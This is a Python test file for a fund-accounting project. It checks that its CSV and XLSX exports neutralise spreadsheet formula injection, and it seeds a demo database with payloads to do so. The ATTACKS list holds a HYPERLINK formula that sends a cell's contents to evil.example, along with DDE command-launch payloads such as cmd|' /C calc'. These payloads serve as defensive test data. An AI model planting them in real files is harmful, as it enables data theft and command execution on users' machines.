"""CSV formula injection: no exported cell (report exports, transparency CSV/XLSX, journal and
balances) is one a spreadsheet would run as a formula, whatever text reached the database."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import text

from jointfund.cli.app import main
from jointfund.fund.demo import build_demo
from jointfund.ledger import Entry, Posting
from jointfund.reports.csv_out import csv_text
from jointfund.reports.formula_guard import FORMULA_START
from jointfund.reports.tables import Table
from jointfund.reports.xlsx_out import workbook_bytes
from jointfund.store import open_database
from jointfund.store.books import Books

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=1+1\n=2+2",
]


def _runs_as_formula(cell: str) -> bool:
    return cell.lstrip(" ")[:1] in FORMULA_START


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


def _csv_formulas(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [c for row in rows for c in row if _runs_as_formula(c) and not _is_number(c)]


def _xlsx_formulas(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"formula cell {cell.coordinate}: {cell.value!r}")
                elif isinstance(cell.value, str) and _runs_as_formula(cell.value):
                    found.append(f"{cell.coordinate}: {cell.value!r}")
    return found


texts = st.one_of(st.sampled_from(ATTACKS), st.text(max_size=20))
cells = st.one_of(texts, st.integers(-(10**12), 10**12), st.none(), st.booleans())


# Sheet names are the program's own constants, never user text: control characters in one
# make an unreadable workbook (xlsx_out does not clean titles), so names are printable here.
sheet_names = st.text(st.characters(blacklist_categories=("Cc", "Cs")), max_size=40)


@settings(max_examples=150, derandomize=True, deadline=None)
@given(rows=st.lists(st.tuples(texts, cells, texts), min_size=1, max_size=5), name=sheet_names)
def test_the_writers_never_emit_a_formula(rows: list[tuple[object, ...]], name: str) -> None:
    table = Table(name or "t", ("a", "b", "c"), tuple(rows))  # type: ignore[arg-type]
    assert _csv_formulas(csv_text(table).encode()) == []
    assert _xlsx_formulas(workbook_bytes([table])) == []


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, str]:
    """A demo fund whose every free-text field holds a formula, as if it got past intake."""
    folder = tmp_path_factory.mktemp("formula")
    url = f"sqlite:///{folder / 'books.db'}"
    db = open_database(url)
    admin = build_demo(db).logins[0].token
    with db.write() as conn:
        conn.execute(
            text("UPDATE licences SET holder = :a, deposit = :b, holder_registry_id = :c"),
            {"a": ATTACKS[0], "b": ATTACKS[1], "c": ATTACKS[3]},
        )
    # Straight into the journal, past every use case: the exports must guard it anyway.
    Books(db).post(
        Entry(
            "poison-1",
            date(2026, 10, 1),
            "fee",
            (
                Posting("Expenses:Operating", 100, "USD"),
                Posting("Assets:Cash:USD", -100, "USD"),
            ),
            memo=ATTACKS[2],
        )
    )
    db.dispose()
    return url, admin


EXPORTS = [
    ["report", "transparency"],
    ["report", "export", "journal"],
    ["report", "export", "balances"],
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("command", EXPORTS, ids=" ".join)
def test_every_export_neutralises_formulas(
    poisoned: tuple[str, str], command: list[str], fmt: str, tmp_path: Path
) -> None:
    out = tmp_path / f"export.{fmt}"
    url, token = poisoned
    args = [*command, "--format", fmt, "--out", str(out), "--db", url, "--token", token]
    assert main(args) == 0
    data = out.read_bytes()
    found = _csv_formulas(data) if fmt == "csv" else _xlsx_formulas(data)
    assert found == []
    shown = data.decode("utf-8", errors="replace") if fmt == "csv" else ""
    if fmt == "csv" and command[-1] != "balances":
        guarded = "'=HYPERLINK" if command[-1] == "transparency" else "'-2+3+cmd"
        assert guarded in shown, "the poisoned text is exported, guarded"
